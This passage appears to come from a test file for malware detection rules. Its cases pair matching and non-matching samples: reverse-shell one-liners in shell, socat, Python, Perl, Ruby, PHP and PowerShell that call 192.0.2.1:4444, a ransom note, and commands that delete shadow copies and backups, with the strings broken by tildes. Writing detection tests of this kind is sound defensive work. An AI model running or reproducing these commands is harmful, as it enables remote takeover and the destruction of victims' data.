      t("mk~nod x p; cat x | s~h | tel~net 192.0.2.1 4444 > x")],
     [t("mk~fifo /tmp/f; cat /tmp/f | gzip > log.gz"),
      t("mk~fifo /tmp/f\ncat /tmp/f | sort | n~c 192.0.2.1 4444 > /tmp/f")])
case("Revshell_Socat",
     [t("soc~at exec:'bas~h -li',pty,stderr tc~p:192.0.2.1:4444"),
      t("soc~at TC~P4:192.0.2.1:4444,nodelay EX~EC:/bin/s~h")],
     [t("soc~at TCP-LISTEN:80,fork TC~P:192.0.2.1:8080"),
      t("soc~at - EX~EC:'ssh host',pty,setsid,ctty")])
case("Revshell_Python",
     [t("import socket,os,pty;s=socket.socket();s.conn~ect(('192.0.2.1',4444));"
        "[os.du~p2(s.fileno(),fd) for fd in (0,1,2)];pty.sp~awn('/bin/sh')", "a.py"),
      t("s.conn~ect((h,p));os.du~p2(s.fileno(),0);subprocess.ca~ll(['/bin/s~h','-i'])", "a.py")],
     [t("s.conn~ect((h,p)); s.sendall(b'x')", "a.py"),
      t("os.du~p2(log.fileno(), 1); subprocess.ca~ll(['/bin/s~h', 'x'])", "a.py"),
      t("s.conn~ect((h,p)); os.du~p2(log.fileno(), 1); subprocess.ca~ll(['ls'])", "a.py")])
case("Revshell_Perl_Ruby",
     [t('use Socket;conn~ect(S,sock~addr_in($p,inet_aton($i)));open(STD~IN,">&S");'
        'open(STD~OUT,">&S");ex~ec("/bin/sh -i");', "a.pl"),
      t('$c=new IO::Socket::IN~ET(PeerAddr,"192.0.2.1:4444");STD~IN->fdopen($c,r);'
        'sys~tem$_ while<>;', "a.pl"),
      t('f=TCPSo~cket.open("192.0.2.1",4444).to_i;ex~ec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
        "a.rb")],
     [t('use Socket;conn~ect(S,sock~addr_in($p,inet_aton($i)));print S "hello";', "a.pl"),
      t('open(STD~IN,"<&F");open(STD~OUT,">&G");ex~ec("/bin/sh");', "a.pl"),
      t('f=TCPSo~cket.open("192.0.2.1",80); f.puts "GET /"', "a.rb")])
case("Revshell_PHP",
     [t('<?ph~p $s=fsock~open("192.0.2.1",4444);exec("/bin/s~h -i <&~3 >&3 2>&3");', "a.php"),
      t("<?ph~p $shell = 'uname -a; w; id; /bin/s~h -i'; $s = fsock~open($ip, $port); "
        "$p = proc_~open($shell, $d, $pipes);", "a.php")],
     [t('<?ph~p $s=fsock~open("mail.example.com",25);fwrite($s,"HELO");', "a.php"),
      t("<?ph~p $s = fsock~open($ip, 25); $p = proc_~open('sendmail -t', $d, $pipes);", "a.php")])
case("Revshell_PowerShell",
     [t("$c=New-Object System.Net.Sockets.TCP~Client('192.0.2.1',4444);$s=$c.GetStr~eam();"
        "while(($i=$s.Re~ad($b,0,9)) -ne 0){$r=(ie~x $d 2>&1);$s.Wr~ite($r,0,1)}", "a.ps1"),
      wide("New-Object Net.Sockets.TCP~Client('192.0.2.1',1);$s=$c.GetStr~eam();$s.Re~ad($b,0,9);"
           "Invoke-Ex~pression $d;$s.Wr~ite($r,0,1)", "a.ps1")],
     [t("$c=New-Object Net.Sockets.TCP~Client('192.0.2.1',80);$s=$c.GetStr~eam();"
        "$s.Wr~ite($b,0,9);$s.Re~ad($b,0,9)", "a.ps1"),
      t("$c=New-Object Net.Sockets.TCP~Client; $c.Connected; Invoke-Ex~pression $d", "a.ps1")])

# --- ransom.yar ----------------------------------------------------------------------------
case("Ransom_Note",
     [t("All your files have been en~crypted!\nTo buy the decryp~tion tool send 0.5 bit~coin. "
        "Download Tor Bro~wser.\nDo not ren~ame encrypted files.", "README.txt"),
      wide("We have encr~ypted your network. Write to help@proton~mail.com to get the private "
           "k~ey. After 72 hours~ your data will be pub~lished.", "readme.hta")],
     [t("All your files are en~crypted at rest with your private key. Bitcoin is not needed.",
        "privacy.txt"),
      t("How to help victims: if files have been en~crypted, restore them from backup within 24 "
        "hours and do not pay the ransom.", "advice.txt"),
      t("Download Tor Browser. Verify with the private key. Do not modify the archive.", "a.txt")])
case("Ransom_Script_Removes_Backups",
     [t("vss~admin delete sha~dows /all /quiet\r\nbcd~edit /set {default} recovery~enabled no\r\n",
        "a.bat"),
      t("wm~ic shadow~copy delete & wb~admin delete cata~log -quiet", "a.cmd")],
     [t("vss~admin list sha~dows\r\nbcd~edit /set {default} recovery~enabled no\r\n", "a.bat"),
      t("vss~admin delete sha~dows /all /quiet\r\n", "cleanup.bat")])
case("Ransom_Program_Removes_Backups",
     [Sample(pe(body=t("vssadmin delete sha~dows /all\0\0bcdedit /set {default} recovery~enabled "
                       "no").data), "a.exe"),
      Sample(pe(body=wide("wmic shadow~copy delete;wbadmin delete cata~log -quiet").data), "a.exe")],
     [Sample(pe(body=t("vssadmin delete sha~dows /all").data), "a.exe"),
      Sample(pe(body=t("wbadmin delete cata~log -quiet").data), "a.exe")])
